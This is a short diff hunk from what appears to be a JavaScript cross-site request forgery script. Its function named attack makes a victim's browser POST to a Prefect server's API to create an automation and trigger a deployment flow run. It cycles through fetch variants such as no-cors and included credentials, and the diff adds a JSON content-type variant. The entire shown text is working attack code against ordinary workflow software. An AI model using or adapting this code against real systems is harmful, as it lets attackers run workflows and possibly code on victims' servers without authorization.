@@ -19,7 +19,8 @@ const sent = (address, body) => short(new Promise(done => {
     form.append(field); document.body.append(frame, form); form.submit(); }));
 
 async function attack(at) {
-    const json = JSON.stringify, every = [{}, {mode: 'no-cors'}, {mode: 'no-cors', credentials: 'include'}, {credentials: 'include'}];
+    const json = JSON.stringify, every = [{}, {mode: 'no-cors'}, {mode: 'no-cors', credentials: 'include'}, {credentials: 'include'},
+        {credentials: 'include', headers: {'Content-Type': 'application/json'}}];
     for (const how of every) {
         await post(at.prefect + '/api/automations/', new Blob([json(at.automation)]), how);
         await post(at.prefect + '/api/deployments/' + at.deployment + '/create_flow_run', new Blob([json(at.run)]), how);
